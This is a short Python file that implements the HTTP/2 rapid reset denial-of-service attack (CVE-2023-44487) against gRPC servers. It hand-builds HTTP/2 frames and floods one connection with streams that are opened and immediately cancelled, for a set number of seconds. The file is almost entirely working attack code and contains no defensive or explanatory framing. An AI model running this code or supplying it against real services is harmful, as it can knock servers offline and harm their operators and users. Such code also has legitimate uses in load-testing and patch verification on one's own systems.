"""HTTP/2 rapid reset (CVE-2023-44487): calls that are opened and reset at once, on one connection."""
import select
import socket
import struct
import time

HEADERS, RST_STREAM, DATA, SETTINGS = 1, 3, 0, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def attack(address, method, seconds):
    """Resets as many calls of `method` as it can; the number of them."""
    host, port = address.split(":")
    head = b"".join(literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/" + method.encode()),
        (b":authority", address.encode()), (b"content-type", b"application/grpc"), (b"te", b"trailers")))
    connection = socket.create_connection((host, int(port)))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    connection.setblocking(False)
    end = time.monotonic() + seconds
    stream, pending, calls = 1, b"", 0
    with connection:
        while time.monotonic() < end:
            while len(pending) < 1 << 16:
                pending += (frame(HEADERS, END_HEADERS, stream, head) +
                            frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") +
                            frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
                calls += 1
            readable, writable, _ = select.select([connection], [connection], [], 1)
            try:
                if readable and not connection.recv(1 << 16):
                    return calls
                if writable:
                    pending = pending[connection.send(pending):]
            except (ConnectionError, BlockingIOError):
                return calls
    return calls
